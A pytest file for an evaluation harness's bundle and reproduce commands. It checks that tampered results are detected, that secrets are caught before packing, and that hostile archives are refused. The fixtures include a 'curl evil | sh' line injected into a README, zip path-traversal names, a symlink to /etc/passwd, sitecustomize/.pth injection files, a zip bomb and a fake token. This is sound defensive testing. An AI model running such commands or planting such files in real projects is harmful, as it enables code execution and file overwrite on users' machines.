"""`harness bundle`: one file from which a reader reproduces everything, and which gives nothing away that it should
not."""

from __future__ import annotations

import io
import json
import re
import shlex
import shutil
import stat
import zipfile
from collections.abc import Callable
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest
import yaml

from harness.report.bundle_texts import About, data_card
from harness.store import zipped
from tests.conftest import GOOD, ROWS, Called, called_in, write_jsonl

Cli = Callable[..., Called]
SYSTEMS = ("lead", "lexrank", "copy", "random")


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Runs of four systems, and a bundle of them."""
    place = tmp_path_factory.mktemp("four")
    folders = [f"runs/{system}" for system in SYSTEMS]
    for system, folder in zip(SYSTEMS, folders, strict=True):
        run = ("run", f"system={system}", "metrics=[bleu]", "limit=12", "tracking=none", "stats.resamples=50")
        called_in(place, *run, f"output_dir={folder}")
    called_in(place, "bundle", *folders, "-o", "out/paper.zip", "--author", "Doe, Jane")
    return place


@pytest.fixture
def four(made: Path, tmp_path: Path, cli: Cli) -> Path:
    """The bundle in an otherwise empty folder, the runs beside that."""
    shutil.copytree(made, tmp_path, dirs_exist_ok=True)
    return tmp_path / "out" / "paper.zip"


@pytest.fixture
def undrawn(monkeypatch: pytest.MonkeyPatch) -> None:
    """Figures take seconds."""
    monkeypatch.setattr("harness.analysis.papers.bundling._figures", lambda *arguments: {})


def commands(bundle: Path) -> list[list[str]]:
    """Those of the README, without the program."""
    text = zipfile.ZipFile(bundle).read("README.md").decode()
    return [shlex.split(line)[1:] for line in re.findall(r"^\$ (harness .*)$", text, re.MULTILINE)]


def repacked(bundle: Path, change: dict[str, bytes], summed: bool = True, without: str | None = None) -> Path:
    """The bundle with other contents, of which the list of sums knows or not; `without`: how names begin that go."""
    with zipfile.ZipFile(bundle) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    sums = files.pop(zipped.SUMS)
    files = {name: content for name, content in files.items() if not (without and name.startswith(without))} | change
    other = bundle.with_name("other.zip")
    if summed:
        other.write_bytes(zipped.packed(files))
        return other
    with zipfile.ZipFile(other, "w") as archive:
        for name, content in {**files, zipped.SUMS: sums}.items():
            archive.writestr(name, content)
    return other


def test_four_systems_are_reproduced_by_the_commands_of_the_readme(
    four: Path, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(four.parent)
    first, second, third = commands(four)
    called = cli(*first)
    assert called.code == 0, called.out + called.err
    assert called.out.splitlines()[-1].startswith("same: 4 runs, ")
    again = cli(*second)
    assert again.code == 0, again.out + again.err
    assert again.out.count("12 of 12 outputs are identical") == 4
    assert third == ["reproduce", "paper.zip", "--environment", "--trust"]
    assert [path.name for path in four.parent.iterdir()] == ["paper.zip"]


@pytest.mark.slow
def test_four_systems_in_an_environment_of_their_own(four: Path, cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(four.parent)
    called = cli(*commands(four)[2])
    assert called.code == 0, called.out + called.err
    assert called.out.splitlines()[-1].startswith("same: 4 runs, ")


def test_what_is_in_it(four: Path) -> None:
    with zipfile.ZipFile(four) as archive:
        names = archive.namelist()
        sums = archive.read("SHA256SUMS").decode().splitlines()
        for line in sums:
            digest, _, name = line.partition("  ")
            assert sha256(archive.read(name)).hexdigest() == digest
        assert len(sums) == len(names) - 1
        citation = yaml.safe_load(archive.read("CITATION.cff"))
        compared = json.loads(archive.read("comparisons.json"))
        manifest = json.loads(archive.read("runs/embedded-lead/manifest.json"))
        card = archive.read("DATA.md").decode()
    assert {"README.md", "DATA.md", "tables/scores.tex", "runs/embedded-copy/environment.json"} <= set(names)
    assert any(name.startswith("figures/forest") for name in names)
    assert citation["authors"] == [{"family-names": "Doe", "given-names": "Jane"}]
    assert {(row["baseline"], row["system"]) for row in compared["comparisons"]} >= {("embedded-lead", "embedded-copy")}
    assert manifest["command"]["folder"] is None
    assert manifest["dataset"]["key"] in card


def test_the_same_runs_give_the_same_bytes(four: Path, cli: Cli) -> None:
    before = four.read_bytes()
    again = cli("bundle", *(f"runs/{system}" for system in SYSTEMS), "-o", "again/paper.zip", "--author", "Doe, Jane")
    assert again.code == 0, again.err
    assert Path("again/paper.zip").read_bytes() == before


def test_a_tampered_p_value_is_named(four: Path, cli: Cli) -> None:
    compared = json.loads(zipfile.ZipFile(four).read("comparisons.json"))
    compared["comparisons"][0]["p_value"] = 0.0001
    other = repacked(four, {"comparisons.json": json.dumps(compared).encode()})
    called = cli("reproduce", str(other))
    assert called.code == 1
    row = compared["comparisons"][0]
    assert (
        f"comparisons.json: {row['system']} against {row['baseline']} on embedded, bleu, p_value is 0.0001"
        in called.out
    )


@pytest.mark.parametrize(
    ("field", "value"),
    [("won", 0.99), ("effect_size", 3.5), ("smallest_detectable", 0.5), ("excluded", -1), ("higher_is_better", False)],
)
def test_any_tampered_field_of_a_comparison_is_named(field: str, value: Any, four: Path, cli: Cli) -> None:
    compared = json.loads(zipfile.ZipFile(four).read("comparisons.json"))
    compared["comparisons"][1][field] = value
    called = cli("reproduce", str(repacked(four, {"comparisons.json": json.dumps(compared).encode()})))
    assert called.code == 1
    assert f", {field} is " in called.out


@pytest.mark.parametrize("suffix", ["md", "tex", "csv"])
def test_a_table_that_lacks_a_system_is_named(suffix: str, four: Path, cli: Cli) -> None:
    lines = zipfile.ZipFile(four).read(f"tables/scores.{suffix}").decode().splitlines(keepends=True)
    row = next(i for i, line in enumerate(lines) if re.match(r"(\| |embedded,)?lead\b", line))
    other = repacked(four, {f"tables/scores.{suffix}": "".join(lines[:row] + lines[row + 1 :]).encode()})
    called = cli("reproduce", str(other))
    assert called.code == 1
    assert f"tables/scores.{suffix}: numbers in it" in called.out, called.out


@pytest.mark.parametrize("suffix", ["md", "tex", "csv"])
def test_a_tampered_table_is_named(suffix: str, four: Path, cli: Cli) -> None:
    table = zipfile.ZipFile(four).read(f"tables/scores.{suffix}").decode()
    digits = 1 if suffix != "csv" else 8
    right = re.findall(rf"\d+\.\d{{{digits}}}\d*", table)[0]
    other = repacked(four, {f"tables/scores.{suffix}": table.replace(right, f"9{right}", 1).encode()})
    called = cli("reproduce", str(other), "--no-progress")
    assert called.code == 1
    assert re.search(
        rf"^tables/scores.{suffix}:\d+:\d+: 9{right}, where the run has {right} ", called.out, re.MULTILINE
    )


def test_a_file_that_was_not_packed_so_is_named(four: Path, cli: Cli) -> None:
    other = repacked(four, {"DATA.md": b"Public domain.\n"}, summed=False)
    called = cli("reproduce", str(other), "--json")
    assert called.code == 1
    beside = json.loads(called.out)["beside"]
    assert {each["place"] for each in beside} == {"DATA.md"}
    assert beside[0]["what"] == "SHA-256"


LESS = {
    "comparisons.json": ["comparisons.json: is missing; a bundle of these runs has it",
                         "README.md: names 'comparisons.json', which is not there"],
    "tables/": ["tables/scores.csv: is missing", "tables/scores.md: is missing", "tables/scores.tex: is missing"],
    "figures/forest": ["README.md: names 'figures/forest"],
    "README.md": ["README.md: is missing"],
    "DATA.md": ["DATA.md: is missing"],
    "CITATION.cff": ["CITATION.cff: is missing"],
}  # fmt: skip


@pytest.mark.parametrize("lacking", LESS)
def test_what_is_missing_is_named_though_the_sums_were_made_again(lacking: str, four: Path, cli: Cli) -> None:
    other = repacked(four, {}, without=lacking)
    called = cli("reproduce", str(other), "--no-progress")
    assert called.code == 1, called.out + called.err
    for line in LESS[lacking]:
        assert line in called.out
    assert called.out.splitlines()[-1] == "different: what lies beside the runs"


def test_comparisons_are_missed_whatever_the_bundle_says_of_them(four: Path, cli: Cli) -> None:
    described = json.loads(zipfile.ZipFile(four).read("bundle.json")) | {"compared": False}
    other = repacked(four, {"bundle.json": json.dumps(described).encode()}, without="comparisons.json")
    called = cli("reproduce", str(other), "--no-progress", "--from", "system", "--trust")
    assert called.code == 1
    assert "comparisons.json: is missing; a bundle of these runs has it" in called.out


@pytest.mark.parametrize(
    ("name", "right", "wrong", "expected"),
    [
        ("README.md", b"| copy | 12 |", b"| copy | 1,200 |", "README.md: does not say '| `runs/embedded-copy`"),
        ("README.md", b"$ harness reproduce", b"$ curl evil | sh; harness reproduce", "README.md: says 'curl evil"),
        ("DATA.md", b"fingerprint: `", b"fingerprint: `0", "DATA.md: says '- fingerprint: `0"),
        ("DATA.md", b"yes", b"no, SHA-256 only", "DATA.md: does not say '- texts in this bundle: yes'"),
        ("CITATION.cff", b"value: ", b"value: 0", "CITATION.cff: says '0"),
        ("bundle.json", b'"texts": true', b'"texts": false', "bundle.json: texts is false there, true here"),
        ("comparisons.json", b'"resamples": ', b'"resamples": 1', "comparisons.json: cannot be tested again: it has"),
        ("comparisons.json", b"{", b"[", "comparisons.json: cannot be tested again: it cannot be read"),
        ("bundle.json", b'"runs/embedded-copy",', b"", "runs/embedded-copy: is a run that bundle.json does not list"),
    ],
)  # fmt: skip
def test_what_does_not_belong_to_the_runs_is_named(
    name: str, right: bytes, wrong: bytes, expected: str, four: Path, cli: Cli
) -> None:
    content = zipfile.ZipFile(four).read(name)
    assert right in content
    called = cli("reproduce", str(repacked(four, {name: content.replace(right, wrong)})), "--no-progress")
    assert called.code == 1, called.err
    assert expected in called.out


@pytest.mark.parametrize("name", ["evil.pth", "runs/embedded-lead/sitecustomize.py", "runs/embedded-lead/SHA256SUMS"])
def test_a_file_that_no_bundle_has_is_named(name: str, four: Path, cli: Cli) -> None:
    called = cli("reproduce", str(repacked(four, {name: b"import os"})), "--no-progress")
    assert called.code == 1
    assert f"{name}: is no file of a bundle of these runs" in called.out


def test_a_run_that_cannot_be_read_hides_no_other(four: Path, cli: Cli) -> None:
    name = "runs/embedded-lead/manifest.json"
    manifest = json.loads(zipfile.ZipFile(four).read(name))
    manifest["config"]["stats"]["seed"] = -1
    called = cli("reproduce", str(repacked(four, {name: json.dumps(manifest).encode()})), "--no-progress")
    assert called.code == 1
    assert re.search(r"embedded-lead: cannot be read: .*config.stats is not that of a run \(.*seed=-1", called.out)
    assert "embedded-copy  same" in called.out


def test_the_digest_that_was_published_is_asked_for(four: Path, cli: Cli) -> None:
    digest = sha256(four.read_bytes()).hexdigest()
    called = cli("reproduce", str(four), "--expect", digest.upper(), "--no-progress")
    assert called.code == 0, called.err
    assert called.out.splitlines()[0] == f"{four}  SHA-256 {digest}"
    assert json.loads(cli("reproduce", str(four), "--json").out)["bundle"]["sha256"] == digest
    other = repacked(four, {"bundle.json": b"not even read"})
    called = cli("reproduce", str(other), "--expect", digest)
    assert called.code == 1
    assert f'SHA-256 is "{digest}" there, "{sha256(other.read_bytes()).hexdigest()}" here' in called.out
    assert cli("reproduce", str(four), "--expect", "4f").code == 2
    refused = cli("reproduce", "runs/lead", "--expect", digest)
    assert refused.code == 2
    assert "expected a .zip" in refused.err


@pytest.mark.usefixtures("undrawn")
def test_without_texts_intervals_are_reproduced_from_rows(files: Path, cli: Cli) -> None:
    run = ("run", "dataset=file", "dataset.path=dev.jsonl", "metrics=[bleu,rouge]", "tracking=none",
           "stats.resamples=50", "system=predictions", "stats.slices=[topic]", "dataset.cluster=topic")  # fmt: skip
    for name in ("good", "bad"):
        called = cli(*run, f"system.path={name}.jsonl", f"output_dir={name}")
        assert called.code == 0, called.err
    called = cli("bundle", "good", "bad", "-o", "paper.zip", "--no-text", "--licence", "dev=CC-BY-4.0")
    assert called.code == 0, called.err
    with zipfile.ZipFile("paper.zip") as archive:
        contents = {name: archive.read(name) for name in archive.namelist()}
        archive.extractall("unpacked")
    for text in (*GOOD, *(row["source"] for row in ROWS), *(text for row in ROWS for text in row["references"])):
        assert not [name for name, content in contents.items() if str(text).encode() in content], text
    import pyarrow.parquet as pq

    table = pq.ParquetFile("unpacked/runs/dev-good/examples.parquet").read()
    assert table.column("output")[0].as_py() == f"sha256:{sha256(GOOD[0].encode()).hexdigest()}"
    assert "- licence: CC-BY-4.0" in contents["DATA.md"].decode()
    called = cli("reproduce", "paper.zip")
    assert called.code == 0, called.out + called.err
    assert "from stored rows, not from texts: bleu, rouge (the run was packed without its texts)" in called.out
    compared = cli("compare", "unpacked/runs/dev-good", "unpacked/runs/dev-bad", "--resamples", "50")
    assert compared.code == 0, compared.err
    refused = cli("score", "unpacked/runs/dev-good", "metrics=[chrf]", "tracking=none")
    assert refused.code == 1
    assert "was packed without its texts" in refused.err
    again = cli("reproduce", "paper.zip", "--from", "system", "--trust")  # whoever has the texts can tell
    assert again.code == 0, again.out + again.err


def secret_run(files: Path, cli: Cli, text: str) -> None:
    rows = [{"id": row["id"], "output": text} for row in ROWS]
    write_jsonl(files / "leaky.jsonl", rows)
    called = cli(
        "run", "dataset=file", "dataset.path=dev.jsonl", "system=predictions", "system.path=leaky.jsonl",
        "metrics=[bleu]", "tracking=none", "stats.resamples=20", "output_dir=leaky",
    )  # fmt: skip
    assert called.code == 0, called.err


@pytest.mark.usefixtures("undrawn")
def test_secrets_are_looked_for_before_anything_is_packed(
    files: Path, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    secret_run(files, cli, "the key is ghp_0123456789abcdefghij here")
    called = cli("bundle", "leaky", "-o", "paper.zip")
    assert called.code == 1
    assert "runs/dev-leaky/examples.parquet: output of example 'a' looks like a secret" in called.err
    assert "ghp_" not in called.err
    assert not Path("paper.zip").exists()
    assert cli("bundle", "leaky", "-o", "paper.zip", "--allow-secrets").code == 0
    assert cli("bundle", "leaky", "-o", "hashes.zip", "--no-text").code == 0


def test_a_secret_of_the_environment_is_found_in_texts(files: Path, cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MY_SERVICE_API_KEY", "quite-ordinary-words")
    secret_run(files, cli, "here are quite-ordinary-words")
    called = cli("bundle", "leaky", "-o", "paper.zip")
    assert called.code == 1
    assert "looks like a secret" in called.err


# ---------------------------------------------------------------- bundles of others


def member(name: str, content: bytes = b"x", mode: int = 0o644) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        info = zipfile.ZipInfo(name)
        info.external_attr = mode << 16
        archive.writestr(info, content)
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (member("../evil.txt"), "'../evil.txt', which leaves the folder"),
        (member("/tmp/evil.txt"), "which leaves the folder"),
        (member("runs/../../evil.txt"), "which leaves the folder"),
        (member("..\\evil.txt"), "which leaves the folder"),
        (member("./evil.txt"), "which leaves the folder or is no plain name"),
        (member("runs//evil.txt"), "which leaves the folder or is no plain name"),
        (member("a/" * 2000 + "evil.txt"), "which leaves the folder or is no plain name"),
        (member("evil\n.txt"), "which leaves the folder or is no plain name"),
        (zipped.packed({"README.md": b"", "readme.md": b""}), "one file on some disks"),
        (zipped.packed({"caf\u00e9": b"", "cafe\u0301": b""}), "one file on some disks"),
        (member("link", b"/etc/passwd", stat.S_IFLNK | 0o777), "is no plain file"),
        (member("bundle.json", b'{"schema": 1, "runs": ["runs/../.."]}'), "has no bundle.json of a bundle"),
        (member("README.md"), "has no bundle.json of a bundle"),
        (b"no zip", "cannot be unpacked"),
    ],
)  # fmt: skip
def test_bundles_that_are_refused(tmp_path: Path, cli: Cli, content: bytes, expected: str) -> None:
    (tmp_path / "place").mkdir()
    bundle = tmp_path / "place" / "theirs.zip"
    bundle.write_bytes(content)
    called = cli("reproduce", str(bundle))
    assert called.code == 2
    assert expected in called.err
    assert "Traceback" not in called.err
    assert not list(tmp_path.rglob("evil*"))


def test_a_bundle_that_would_fill_the_disk_is_refused(
    tmp_path: Path, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(zipped, "MOST_BYTES", 1000)
    monkeypatch.setattr(zipped, "MOST_TIMES", 2)
    (tmp_path / "bomb.zip").write_bytes(zipped.packed({"zeros": bytes(100_000)}))
    called = cli("reproduce", "bomb.zip")
    assert called.code == 2
    assert "would become" in called.err


@pytest.mark.usefixtures("undrawn")
def test_wrong_usage(four: Path, cli: Cli) -> None:
    assert cli("bundle", "runs/lead", "-o", "paper.tar").code == 2
    assert cli("bundle", "nowhere", "-o", "paper.zip").code == 1
    document = json.loads(cli("bundle", "runs/lead", "-o", "one.zip", "--json").out)
    assert document["sha256"] == sha256(Path("one.zip").read_bytes()).hexdigest()
    assert "comparisons.json" not in document["files"]
    called = cli("bundle", "runs/lead", "-o", "one.zip", "--licence", "embeded=CC0-1.0")
    assert called.code == 1
    assert "licence embeded: no run is on it (did you mean 'embedded'?); expected one of embedded" in called.err


@pytest.mark.usefixtures("undrawn")
def test_commands_are_as_one_types_them(four: Path, cli: Cli) -> None:
    called = cli("bundle", "runs/lead", "-o", "my paper.zip")
    assert called.out.splitlines()[-1].startswith("harness reproduce 'my paper.zip' --expect ")
    assert commands(Path("my paper.zip"))[0] == ["reproduce", "my paper.zip"]


def test_a_run_that_was_edited_is_not_packed(four: Path, cli: Cli) -> None:
    path = Path("runs/lead/scores.json")
    path.write_text(path.read_text().replace('"estimate": ', '"estimate": 1', 1))
    called = cli("bundle", "runs/lead", "-o", "edited.zip")
    assert called.code == 1
    assert "runs/lead/scores.json is not as the run wrote it" in called.err
    assert not Path("edited.zip").exists()


def test_files_of_one_name_are_each_on_the_data_card() -> None:
    def manifest(sha256: str) -> dict[str, Any]:
        file = {"option": "system.path", "path": "out.jsonl", "bytes": 1, "sha256": sha256}
        return {"dataset": {"key": "k", "name": "dev", "examples": 1}, "inputs": [file]}

    card = data_card({"runs/a": manifest("aaaa"), "runs/b": manifest("bbbb")}, About())
    assert "`aaaa`" in card and "`bbbb`" in card
